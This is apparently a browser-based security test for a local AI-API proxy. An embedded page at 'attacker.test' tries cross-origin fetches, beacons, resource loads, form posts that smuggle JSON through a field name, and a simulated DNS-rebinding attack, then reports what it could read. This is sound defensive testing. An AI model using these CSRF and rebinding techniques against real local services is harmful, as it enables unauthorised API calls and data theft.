import { assert, describe, it } from "@effect/vitest"
import { Context, Deferred, Effect, Layer, Redacted } from "effect"
import type { Server, Socket } from "node:net"
import { connect, createServer } from "node:net"
import type { SettingsOptions } from "../../../src/config/Settings.ts"
import { leftOut, saying } from "../../support/ByName.ts"
import { chromium, makeBrowser } from "../../support/Chromium.ts"
import { makeRecorder } from "../../support/Recorder.ts"
import { TestProxy } from "../../support/TestProxy.ts"

const why =
  chromium === undefined
    ? "for Chromium is not installed (apt-get install chromium)"
    : leftOut(import.meta.url, "it starts a browser")

/** What a page reports of each try: the status and text that it could read, or that it could not. */
type Report = Readonly<Record<string, string>>

/**
 * A page that tries whatever a page can try at `base`, and then reports. An answer in a frame or an image can't be read:
 * that it was asked for is what its try is about.
 */
const page = (base: string, report: string) => `<!doctype html><title>A page</title><body><script type="module">
const base = ${JSON.stringify(base)}
const turn = JSON.stringify({ model: "gpt-5.5", input: "Hello", store: false })
const said = {}
const attempt = async (what, path, init) => {
  try {
    const answer = await fetch(base + path, init)
    said[what] = answer.type === "opaque" ? "opaque" : answer.status + " " + (await answer.text())
  } catch (error) {
    said[what] = "blocked"
  }
}
const json = { "content-type": "application/json" }
await attempt("plain text", "/responses", { method: "POST", body: turn })
await attempt("plain text, not read", "/responses", { method: "POST", body: turn, mode: "no-cors" })
await attempt("JSON", "/responses", { method: "POST", body: turn, headers: json })
await attempt("JSON with a credential", "/responses", { method: "POST", body: turn, headers: { ...json, authorization: "Bearer x" } })
await attempt("a stream", "/responses", { method: "POST", body: turn.replace("}", ',"stream":true}') })
await attempt("compaction", "/responses/compact", { method: "POST", body: turn })
await attempt("files", "/files")
await attempt("models", "/models")
await attempt("models, not read", "/models", { mode: "no-cors" })
await attempt("models with cookies", "/models", { credentials: "include" })
await attempt("a response", "/responses/resp_1")
await attempt("a deletion", "/files/file_1", { method: "DELETE" })
await attempt("a beacon", "/models", { method: "POST", body: new Blob([turn], { type: "text/plain" }), keepalive: true, mode: "no-cors" })
navigator.sendBeacon(base + "/responses", turn)
const loaded = (element, source) =>
  new Promise((resolve) => {
    element.onload = element.onerror = () => resolve()
    Object.assign(element, source)
    document.body.append(element)
  })
await loaded(document.createElement("img"), { src: base + "/models?image" })
await loaded(document.createElement("script"), { src: base + "/models?script" })
await loaded(document.createElement("iframe"), { src: base + "/models?frame" })
const frame = document.createElement("iframe")
frame.name = "answer"
document.body.append(frame)
for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
  const form = document.createElement("form")
  Object.assign(form, { action: base + "/responses", method: "POST", enctype, target: "answer" })
  const field = document.createElement("input")
  Object.assign(field, { name: turn.replace("}", ',"x":"'), value: '"}' })
  form.append(field)
  document.body.append(form)
  await new Promise((resolve) => {
    frame.onload = () => resolve()
    form.submit()
  })
}
await fetch(${JSON.stringify(report)}, { method: "POST", body: JSON.stringify(said) })
</script>`

/** Serves the page, under any name, and hears its report. The page's own proxy is at another port. */
const makeSite = Effect.fnUntraced(function* (base: (port: number) => string) {
  const reported = yield* Deferred.make<Report>()
  const server = yield* Effect.acquireRelease(
    Effect.sync(() =>
      Bun.serve({
        hostname: "127.0.0.1",
        port: 0,
        fetch: async (request, { port }) => {
          if (request.method !== "POST") {
            return new Response(page(base(port ?? 0), "/report"), { headers: { "content-type": "text/html" } })
          }
          Deferred.doneUnsafe(reported, Effect.succeed((await request.json()) as Report))
          return new Response("")
        },
      }),
    ),
    (server) => Effect.promise(() => server.stop(true)),
  )
  return { port: server.port ?? 0, reported: Deferred.await(reported) }
})

/**
 * One address that is the page's when the browser asks for it, and the proxy's for all else, as where a name was made to
 * lead elsewhere in between: to the browser they are one origin.
 */
const makeRebound = Effect.fnUntraced(function* (proxy: number, page: (port: number) => string) {
  const sockets = new Set<Socket>()
  const server = createServer((client) => {
    sockets.add(client)
    client.on("error", () => undefined)
    client.once("data", (first) => {
      if (String(first).startsWith("GET / ")) {
        const text = page(portOf(server))
        const head = `content-type: text/html\r\ncontent-length: ${text.length}\r\nconnection: close`
        client.end(`HTTP/1.1 200 OK\r\n${head}\r\n\r\n${text}`)
        return
      }
      const peer = connect(proxy, "127.0.0.1")
      sockets.add(peer)
      peer.on("error", () => undefined)
      peer.write(first)
      client.pipe(peer)
      peer.pipe(client)
    })
  })
  yield* Effect.acquireRelease(
    Effect.callback<void>((resume) => void server.listen(0, "127.0.0.1", () => resume(Effect.void))),
    () =>
      Effect.sync(() => {
        for (const socket of sockets) socket.destroy()
        server.close()
      }),
  )
  return portOf(server)
})

const portOf = (server: Server): number => {
  const address = server.address()
  return typeof address === "object" && address !== null ? address.port : 0
}

const answer = `{"id":"resp_1","object":"response","status":"completed","output":[],"secret":"to-be-read"}`

/** Its start takes longer than all that these tests do in it. */
class Browser extends Context.Service<Browser, Effect.Success<ReturnType<typeof makeBrowser>>>()("test/Browser") {
  static readonly layer = Layer.effect(Browser, makeBrowser(["attacker.test", "app.test"]))
}

const openPage = (url: string) => Effect.flatMap(Browser, ({ open }) => open(url))

const behind = Effect.fnUntraced(function* (settings: (url: string) => SettingsOptions) {
  const recorder = yield* makeRecorder(() => answer)
  const { url } = Context.get(yield* Layer.build(TestProxy.layerProxy(settings(recorder.url))), TestProxy)
  return { recorder, url, port: Number(new URL(url).port) }
})

const withCredential = (url: string): SettingsOptions => ({
  transport: "http",
  upstreams: [{ name: "u0", url, credential: { _tag: "Fixed", apiKey: Redacted.make("test-key-upstream") } }],
})

describe.skipIf(why !== undefined)(`In a real browser${saying(why)}`, () => {
  it.layer(Browser.layer, { excludeTestServices: true })((it) => {
    for (const [what, settings, hosts] of [
      ["the upstream's own credential", withCredential, ["attacker.test", "localhost"]],
      [
        "callers' credentials alone",
        (url: string): SettingsOptions => ({ transport: "http", upstreamUrl: url }),
        ["attacker.test"],
      ],
    ] as const) {
      for (const host of hosts) {
        it.effect(
          `nothing that a page of ${host} tries reaches an upstream with ${what}`,
          () =>
            Effect.gen(function* () {
              const { recorder, url } = yield* behind(settings)
              const site = yield* makeSite(() => url)
              yield* openPage(`http://${host}:${site.port}/`)
              const said = yield* site.reported
              assert.deepStrictEqual(recorder.requests, [])
              assert.lengthOf(Object.keys(said), 13)
              for (const [attempt, read] of Object.entries(said)) assert.match(read, /^(blocked|opaque)$/, attempt)
            }).pipe(Effect.scoped),
          60_000,
        )
      }
    }

    it.effect(
      "nothing reaches the upstream from a page whose name was made to lead to the proxy",
      () =>
        Effect.gen(function* () {
          const { port, recorder } = yield* behind(withCredential)
          const site = yield* makeSite(() => "")
          const report = `http://attacker.test:${site.port}/report`
          const rebound = yield* makeRebound(port, (own) => page(`http://attacker.test:${own}/v1`, report))
          yield* openPage(`http://attacker.test:${rebound}/`)
          const said = yield* site.reported
          assert.deepStrictEqual(recorder.requests, [])
          // It may read what it is told, for it is of the same origin as the proxy: that it may not.
          for (const [attempt, read] of Object.entries(said)) assert.match(read, /^403 .*host_not_allowed/, attempt)
        }).pipe(Effect.scoped),
      60_000,
    )

    it.effect(
      "a page of an allowed origin does all of it, and reads the answers",
      () =>
        Effect.gen(function* () {
          const recorder = yield* makeRecorder(() => answer)
          let url = ""
          const site = yield* makeSite(() => url)
          const origin = `http://app.test:${site.port}`
          const layer = TestProxy.layerProxy({ ...withCredential(recorder.url), allowedOrigins: [origin] })
          url = Context.get(yield* Layer.build(layer), TestProxy).url
          yield* openPage(origin)
          const said = yield* site.reported
          for (const attempt of ["JSON", "JSON with a credential", "files", "models", "a deletion"]) {
            assert.strictEqual(said[attempt], `200 ${answer}`, attempt)
          }
          const deletions = recorder.requests.filter(({ method }) => method === "DELETE")
          assert.lengthOf(deletions, 1)
        }).pipe(Effect.scoped),
      60_000,
    )
  })
})
